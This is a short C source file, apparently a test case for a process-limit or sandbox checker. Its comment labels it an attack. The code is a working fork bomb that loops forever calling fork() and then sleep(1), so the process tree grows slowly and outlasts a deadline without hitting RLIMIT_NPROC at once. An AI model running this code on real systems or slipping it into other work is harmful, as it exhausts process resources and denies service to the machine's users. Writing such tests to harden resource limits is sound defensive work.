/* Attack: exponential fork with a sleep, so the tree grows slowly and stays
 * alive past the deadline instead of hitting RLIMIT_NPROC at once. */
#include <unistd.h>

int
main(void)
{
	for (;;) {
		fork();
		sleep(1);
	}
}
